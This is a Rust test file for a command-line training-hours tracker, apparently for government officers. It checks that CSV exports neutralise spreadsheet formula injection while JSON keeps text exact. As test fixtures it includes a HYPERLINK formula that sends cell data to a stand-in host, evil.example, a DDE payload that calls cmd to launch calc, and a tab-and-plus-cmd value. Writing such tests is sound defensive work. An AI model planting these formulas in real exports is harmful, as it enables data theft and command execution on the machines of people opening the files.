//! What karmadash writes for others to open: every CSV (`report --format
//! csv`, `roster --csv`, `roster report --format csv`) neutralises a cell a
//! spreadsheet would run as a formula (`=`, `+`, `-`, `@`, a leading tab
//! or carriage return) with a leading `'`, while `--json` keeps the text
//! exact and the numbers karmadash writes stay numbers.

use crate::progress_fixtures;

use progress_fixtures::*;
use std::path::Path;

/// Cells a spreadsheet runs: a link that sends data away, a DDE call.
const LINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
const DDE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

/// The CSV's records, parsed as a spreadsheet would see their cells.
fn records(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes())
        .records()
        .map(|r| {
            r.expect("a CSV record")
                .iter()
                .map(str::to_string)
                .collect()
        })
        .collect()
}

#[test]
fn report_csv_neutralises_titles_and_certificates_but_not_numbers() {
    let s = Store::new();
    s.profile_bihar_bas();
    s.ok(&[
        "done",
        LINK,
        "--other",
        "--hours",
        "1.5",
        "--date",
        "2026-06-01",
    ]);
    s.ok(&[
        "done",
        "Noting and Drafting",
        "--hours",
        "2",
        "--date",
        "2026-06-02",
        "--certificate=-2+3",
    ]);
    s.ok(&[
        "done",
        DDE,
        "--other",
        "--hours",
        "1",
        "--date",
        "2026-06-03",
    ]);
    let rows = records(&s.ok(&["report", "--format", "csv"]));
    let cell = |title_start: &str, col: usize| -> String {
        rows.iter()
            .find(|r| r[0].contains(title_start))
            .unwrap_or_else(|| panic!("no row for {title_start}: {rows:?}"))[col]
            .clone()
    };
    assert_eq!(cell("HYPERLINK", 0), format!("'{LINK}"));
    assert_eq!(cell("SUM(1+1)", 0), format!("'{DDE}"));
    assert_eq!(cell("Noting and Drafting", 4), "'-2+3");
    assert_eq!(cell("Noting and Drafting", 0), "Noting and Drafting");
    // Numbers and dates karmadash wrote stay as they are.
    assert_eq!(cell("HYPERLINK", 2), "2026-06-01");
    assert_eq!(cell("HYPERLINK", 3), "1.50");
    // JSON keeps the exact text.
    let json = s.json(&["report", "--format", "json"]);
    let titles: Vec<&str> = json["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["course"].as_str().unwrap())
        .collect();
    assert!(
        titles.contains(&LINK) && titles.contains(&DDE),
        "{titles:?}"
    );
    let certs: Vec<&str> = json["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["certificate"].as_str().unwrap())
        .collect();
    assert!(certs.contains(&"-2+3"), "{certs:?}");
}

/// The tour's consumption report with one officer's name, designation
/// and e-mail replaced by formulas (a tab before one, as an Excel user may
/// paste it), in `dir`.
fn hostile_report(dir: &Path) -> String {
    let tour = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/igot_fixtures/tour");
    let text = std::fs::read_to_string(tour.join("ConsumptionReport.csv")).unwrap();
    let text = text
        .replace(
            "Sunita Devi",
            "\"=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"",
        )
        .replace("Deputy Collector", "\"\t+1+cmd\"");
    let file = dir.join("ConsumptionReport.csv");
    std::fs::write(&file, text).unwrap();
    file.display().to_string()
}

#[test]
fn roster_csv_neutralises_names_and_designations_and_json_keeps_them() {
    let s = Store::new();
    let dir = tempfile::tempdir().unwrap();
    let report = hostile_report(dir.path());
    let r = s.run(&["roster", "import", &report]);
    assert!(r.code == 0 || r.code == 1, "{}", r.stderr);
    let rows = records(&s.ok(&["roster", "--csv"]));
    assert_eq!(rows[0][1], "name");
    let hostile = rows
        .iter()
        .find(|r| r[1].contains("HYPERLINK"))
        .unwrap_or_else(|| panic!("no hostile row: {rows:?}"));
    assert_eq!(hostile[1], "'=HYPERLINK(\"http://evil.example\",\"x\")");
    for row in &rows[1..] {
        for (i, cell) in row.iter().enumerate() {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']),
                "column {i} runs as a formula: {row:?}"
            );
        }
        assert!(
            !row[2].starts_with('-') && !row[2].trim_start().starts_with('+'),
            "{row:?}"
        );
    }
    let designations: Vec<&String> = rows[1..].iter().map(|r| &r[2]).collect();
    assert!(
        designations.iter().any(|d| d.starts_with("'")),
        "the tab-and-plus designation is neutralised: {designations:?}"
    );
    // The hours column is a number a spreadsheet can sum.
    let ravi = rows
        .iter()
        .find(|r| r[0] == "ravi.prasad@bihar.gov.in")
        .unwrap();
    assert_eq!(ravi[4], "45.00", "{ravi:?}");
    let json = s.json(&["roster", "--json"]);
    let names: Vec<String> = json
        .as_array()
        .or_else(|| json["officers"].as_array())
        .expect("a list of officers")
        .iter()
        .map(|o| o["name"].as_str().unwrap_or_default().to_string())
        .collect();
    assert!(
        names.contains(&"=HYPERLINK(\"http://evil.example\",\"x\")".to_string()),
        "{names:?}"
    );
}

#[test]
fn roster_report_csv_writes_karmadashs_own_no_tier_placeholder_as_it_is() {
    let s = Store::new();
    let dir = tempfile::tempdir().unwrap();
    // The tab-and-plus designation places its officers in no tier.
    let report = hostile_report(dir.path());
    let r = s.run(&["roster", "import", &report]);
    assert!(r.code == 0 || r.code == 1, "{}", r.stderr);
    let rows = records(&s.ok(&["roster", "report", "--format", "csv"]));
    assert_eq!(rows[0][0], "tier");
    let unplaced = rows
        .iter()
        .find(|r| r[1] == "not placed in a tier")
        .unwrap_or_else(|| panic!("no unplaced row: {rows:?}"));
    assert_eq!(unplaced[0], "-", "karmadash's placeholder is no text cell");
}
